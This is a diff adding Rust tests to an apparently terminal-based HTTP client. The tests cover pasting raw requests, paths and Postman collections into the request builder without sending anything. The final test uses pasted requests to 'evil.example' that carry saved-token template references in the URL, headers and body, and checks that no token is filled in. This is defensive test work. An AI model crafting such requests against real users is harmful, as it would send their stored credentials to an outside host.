@@ -461,3 +461,118 @@ fn a_text_too_large_for_a_field_is_pasted_whole_and_only_looked_at() {
     scene.keys("enter");
     assert!(!scene.state.builder.is_editing());
 }
+
+const REQUEST: &str = "@host = https://api.other.example/v1\r\r### Change it\rPUT {{host}}/core/runbooks/{{id}}?page=2 HTTP/1.1\rAuthorization: Bearer abcdef0123456789\rContent-Type: text/plain\r\rhello\r";
+
+#[test]
+fn a_pasted_http_request_fills_the_builder_as_a_command_does() {
+    for keys in ["", "tab", "enter", "/ 4 0 3", "ctrl-k"] {
+        let mut scene = Scene::open(WIDE);
+        scene.keys(keys).paste(&REQUEST.replace("{{id}}", "9"));
+        let spec = scene.state.builder.spec();
+        assert_eq!(spec.method, "PUT", "{keys}");
+        assert_eq!(spec.url, "https://api.other.example/v1/core/runbooks/9");
+        assert_eq!(spec.params, [Param::new("page", "2")]);
+        assert_eq!(spec.body, Body::Text("hello".into()));
+        assert_eq!(spec.auth, Auth::Bearer(token("bearer")));
+        assert!(!scene.state.is_editing() && scene.state.overlay.is_none());
+        assert!(scene.state.sessions.open.is_none());
+        assert_eq!(scene.state.environment().name, "https://api.other.example");
+        let notice = scene.notice();
+        assert!(
+            notice.contains("The pasted request is in the builder; nothing was sent."),
+            "{notice}"
+        );
+        assert!(notice.contains("this run and this host only"), "{notice}");
+        // In the builder the base is said in full.
+        assert!(!notice.contains("{{base}}"), "{notice}");
+        assert_eq!(scene.jobs().len(), 1, "{keys}");
+    }
+    // Several are a session as well.
+    let mut scene = Scene::open(WIDE);
+    scene.paste(&format!("{REQUEST}\r###\rGET {{{{host}}}}/two\r"));
+    let notice = scene.notice();
+    assert!(notice.contains("The pasted text holds 2 calls"), "{notice}");
+    let session = &scene.state.sessions.open.as_ref().unwrap().session;
+    assert_eq!(
+        session.steps[1].spec.url,
+        "https://api.other.example/v1/two"
+    );
+    // A line alone may be what is looked for.
+    let mut scene = Scene::open(WIDE);
+    let before = scene.state.builder.spec();
+    scene.keys("tab tab /").paste("GET /core/runbooks");
+    assert_eq!(scene.state.builder.spec(), before);
+    assert!(scene.state.history.filtering);
+    // In the body it is a body.
+    let mut scene = Scene::open(WIDE);
+    scene.keys("[ [ down enter").paste(REQUEST);
+    assert!(scene.state.builder.body.text().contains("PUT {{host}}"));
+}
+
+#[test]
+fn a_path_that_is_pasted_stays_in_the_environment_that_is_open() {
+    let mut scene = Scene::open(WIDE);
+    let before = scene.state.environment().name.clone();
+    scene.paste("GET {{baseUrl}}/core/users/me\r");
+    assert_eq!(scene.state.builder.spec().url, "{{base}}/core/users/me");
+    scene.paste("DELETE /core/runbooks/9");
+    assert_eq!(scene.state.builder.spec().url, "/core/runbooks/9");
+    assert_eq!(scene.state.builder.spec().method, "DELETE");
+    assert_eq!(scene.state.environment().name, before);
+}
+
+#[test]
+fn a_pasted_collection_is_a_session_and_its_first_request_is_in_the_builder() {
+    let request = |name: &str, path: &str| {
+        format!(
+            r#"{{ "name": "{name}", "request": {{ "method": "GET", "url": "{{{{baseUrl}}}}{path}" }} }}"#
+        )
+    };
+    let text = format!(
+        r#"{{ "info": {{ "name": "Acme API", "_postman_id": "1" }},
+        "auth": {{ "type": "bearer", "bearer": [{{ "key": "token", "value": "{{{{access}}}}" }}] }},
+        "variable": [ {{ "key": "baseUrl", "value": "https://api.acme.example/v1" }}, {{ "key": "access", "value": "postmansecret1122" }}, {{ "key": "id", "value": "7" }} ],
+        "item": [ {}, {{ "name": "F", "item": [ {} ] }} ] }}"#,
+        request("one", "/core/runbooks/{{id}}"),
+        request("two", "/core/users/me"),
+    );
+    let mut scene = Scene::open(WIDE);
+    scene.paste(&text);
+    let spec = scene.state.builder.spec();
+    assert_eq!(spec.url, "https://api.acme.example/v1/core/runbooks/7");
+    assert_eq!(spec.auth, Auth::Bearer(token("access")));
+    let notice = scene.notice();
+    assert!(
+        notice.contains("The pasted Postman collection holds 2 calls"),
+        "{notice}"
+    );
+    assert!(
+        notice.contains("nothing was sent") && notice.contains("access"),
+        "{notice}"
+    );
+    scene.keys("3");
+    let session = &scene.state.sessions.open.as_ref().unwrap().session;
+    assert_eq!(session.steps[1].name, "F / two");
+    assert_eq!(
+        session.steps[1].spec.url,
+        "https://api.acme.example/v1/core/users/me"
+    );
+    assert!(!format!("{:?}", scene.state.sessions).contains("postmansecret"));
+    assert_eq!(scene.jobs().len(), 1);
+}
+
+#[test]
+fn a_pasted_request_of_a_stranger_gets_no_token_by_its_name() {
+    for text in [
+        "GET https://evil.example/?k={{token:desk}}\rAuthorization: Bearer {{desk}}\rX-A: {{token:desk}}\r\r{{token:desk}}",
+        r#"{"info": {"_postman_id": "1"}, "item": [{"name": "x", "request": {"url": "https://evil.example/{{token:desk}}", "auth": {"type": "bearer", "bearer": {"token": "{{desk}}"}}}}]}"#,
+    ] {
+        let mut scene = Scene::open(WIDE);
+        scene.paste(text);
+        let spec = scene.state.builder.spec();
+        assert_eq!(spec.auth, Auth::None);
+        assert!(!format!("{spec:?}").contains("token:desk"), "{spec:?}");
+        assert!(scene.notice().contains("left out"), "{}", scene.notice());
+    }
+}
